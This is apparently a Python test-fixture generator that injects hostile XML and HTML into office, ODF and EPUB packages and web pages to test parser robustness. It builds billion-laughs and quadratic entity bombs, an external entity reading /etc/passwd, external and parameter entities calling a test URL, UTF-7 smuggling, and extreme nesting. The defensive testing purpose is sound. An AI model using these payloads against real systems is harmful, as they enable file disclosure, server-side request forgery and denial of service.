"""XML and HTML that unfold without end, reach for files and for other machines, or lie very deep.

Each attack is put into every XML part of every golden package, so that no part is forgotten by a reader.
"""

# ruff: noqa: E501 (long lines here are the content of files)
from __future__ import annotations

import re
from collections.abc import Iterator, Mapping

from tests.hostile.golden import chance, good, parts, with_part

PACKAGES = (
    "statement.docx",
    "annex.docx",
    "register.xlsx",
    "names.xlsx",
    "letter.odt",
    "briefing.odp",
    "register.ods",
    "briefing.pptx",
    "primer.epub",
    "old.epub",
)
FLAT = ("letter.fodt", "register.fods")
_TEXT = re.compile(rb">([A-Za-z0-9][^<]*)</")
_ROOT = re.compile(rb"<([A-Za-z][\w:.-]*)")
_DEEP = 100_000


def _laughs() -> str:
    lines = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)]
    return '<!ENTITY l0 "ha">' + "".join(lines) + '<!ENTITY e "&l11;">'


def attacks(url: str) -> Mapping[str, str]:
    """What is declared before the root, each with an entity ``e`` to be used in the text."""
    return {
        "laughs": _laughs(),
        "quadratic": f'<!ENTITY q "{"a" * 50_000}"><!ENTITY e "{"&q;" * 5_000}">',
        "circle": '<!ENTITY e "&f;"><!ENTITY f "&e;">',
        "file": '<!ENTITY e SYSTEM "file:///etc/passwd">',
        "connection": f'<!ENTITY e SYSTEM "{url}entity">',
        "parameter": f'<!ENTITY % p SYSTEM "{url}parameter"> %p; <!ENTITY e "x">',
        "notation": f'<!NOTATION n SYSTEM "{url}notation"><!ENTITY e SYSTEM "{url}unparsed" NDATA n>',
    }


def files(seed: int, url: str) -> Iterator[tuple[str, bytes]]:
    """Every attack in every XML part of one package of a kind by chance, the connection in all parts of all."""
    for name in PACKAGES:
        whole, some = good()[name], chance(seed, name)
        inside = parts(whole)
        named = [part for part in inside if part.endswith((".xml", ".rels", ".opf", ".xhtml", ".html", ".ncx"))]
        for part in named:
            yield (
                f"xml/connection-{part.replace('/', '-')}-{name}",
                with_part(whole, part, infected(inside[part], attacks(url)["connection"], url)),
            )
        for what, declared in attacks(url).items():
            if what == "connection":
                continue
            part = some.choice(named)
            yield (
                f"xml/{what}-{part.replace('/', '-')}-{name}",
                with_part(whole, part, infected(inside[part], declared, url)),
            )
        for what, data in _without_entities(inside[part := some.choice(named)], url).items():
            yield f"xml/{what}-{part.replace('/', '-')}-{name}", with_part(whole, part, data)
    for name in FLAT:
        for what, declared in attacks(url).items():
            yield f"xml/{what}-{name}", infected(good()[name], declared, url)
        for what, data in _without_entities(good()[name], url).items():
            yield f"xml/{what}-{name}", data
    yield from _pages(url)


def infected(data: bytes, declared: str, url: str) -> bytes:
    """The XML with these declarations and a use of what they declare."""
    root = _ROOT.search(data)
    if root is None:
        return data
    name = root[1].decode()
    kind = f'<!DOCTYPE {name} PUBLIC "-//INVENTED//EN" "{url}dtd" [{declared}]>'.encode()
    body = _TEXT.sub(lambda found: b">&e;" + found[1] + b"</", data[root.start() :], count=1)
    return b'<?xml version="1.0" encoding="UTF-8"?>' + kind + body


def _without_entities(data: bytes, url: str) -> Mapping[str, bytes]:
    """What harms a parser that knows no entities, too."""
    root = _ROOT.search(data)
    assert root is not None
    name, rest = root[1], data[root.start() + len(root[0]) :]
    head, inner = b'<?xml version="1.0"?>', root[1]
    return {
        "deep": head
        + b"<"
        + inner
        + rest[: rest.index(b">") + 1]
        + b"<a>" * _DEEP
        + b"</a>" * _DEEP
        + b"</"
        + inner
        + b">",
        "attributes": head + b"<" + name + b"".join(b' a%d="x"' % n for n in range(_DEEP)) + rest,
        "long-attribute": head + b"<" + name + b' a="' + b"x" * 11_000_000 + b'"' + rest,
        "long-text": head + b"<" + name + rest.replace(b"</", b"x" * 11_000_000 + b"</", 1),
        "include": head
        + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="'
        + url.encode()
        + b'include" parse="text"/>',
        "sheet": head + b'<?xml-stylesheet href="' + url.encode() + b'style" type="text/xsl"?><' + name + rest,
        "schema": head
        + b"<"
        + name
        + b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a '
        + url.encode()
        + b'schema"'
        + rest,
        "utf-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a SYSTEM "'
        + url.encode()
        + b'utf7"+AD4-<'
        + name
        + rest,
        "utf-16": '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16")
        + f'<!DOCTYPE a SYSTEM "{url}utf16"><a/>'.encode("utf-16-le"),
        "no-encoding": b'<?xml version="1.0" encoding="no-such-thing"?><' + name + rest,
        "second-root": head + b"<" + name + rest + b"<" + name + rest,
        "nul": head + b"<" + name + rest.replace(b"</", b"\x00&#0;&#xD800;</", 1),
    }


def _pages(url: str) -> Iterator[tuple[str, bytes]]:
    """Web pages: whatever a browser would fetch, and what no parser likes."""
    u = url.encode()
    fetched = b"<link rel=stylesheet href=%scss><script src=%sjs></script><img src=%simg srcset='%sa 1x'><iframe src=%sframe></iframe><object data=%sobject></object><video poster=%sposter src=%svideo></video><meta http-equiv=refresh content='0;url=%srefresh'><base href=%s><body background=%sback><form action=%sform><input type=image src=%sinput></form>"
    yield "html/fetches.html", b"<!doctype html>" + fetched.replace(b"%s", u) + b"<p>INVENTED"
    yield (
        "html/style.html",
        b"<style>@import url(%scss);body{background:url(%sback)}@font-face{src:url(%sfont)}</style><p style='background:url(%sp)'>INVENTED".replace(
            b"%s", u
        ),
    )
    yield (
        "html/xxe.html",
        b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e SYSTEM "' + u + b'html">]><html><p>&e; INVENTED',
    )
    yield (
        "html/svg.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="'
        + u
        + b'svg"/><script>fetch("'
        + u
        + b'js")</script><text>INVENTED</text></svg>',
    )
    for tag in (
        b"div",
        b"b",
        b"table",
        b"tr",
        b"ul",
        b"select",
        b"font",
        b"a",
        b"p",
        b"svg",
        b"template",
        b"math",
        b"frameset",
    ):
        yield f"html/deep-{tag.decode()}.html", b"<html><body>" + b"<%s>" % tag * _DEEP + b"INVENTED"
    yield "html/tables.html", b"<table><tr><td>" * 3_000 + b"INVENTED"
    yield "html/formats.html", (b"<p>" + b"<b><i><u><s>" * 40) * 400 + b"INVENTED"
    yield "html/attributes.html", b"<p " + b" ".join(b"a%d=x" % n for n in range(200_000)) + b">INVENTED"
    yield "html/one-word.html", b"<p>" + b"x" * 20_000_000
    yield "html/comments.html", b"<!--" * 1_000_000 + b"<p>INVENTED"
    yield "html/entities.html", b"<p>" + b"&#x110000;&#0;&#xD800;&nosuch;&" * 200_000 + b"INVENTED"
    yield "html/span.html", b"<table><tr><td colspan=99999999 rowspan=99999999>INVENTED</table>"
    yield "html/claims.html", b'<script type="application/ld+json">' + b'{"a":' * _DEEP + b"</script><p>INVENTED"
    yield "html/charset.html", b"<meta charset=utf-7><p>+ADw-script+AD4- INVENTED"
    yield "html/never-closed.html", b"<!doctype html><p>INVENTED<script>" + b"a" * 5_000_000
    yield "html/hidden.html", b"<p style='display:none'>" * 20_000 + b"INVENTED"
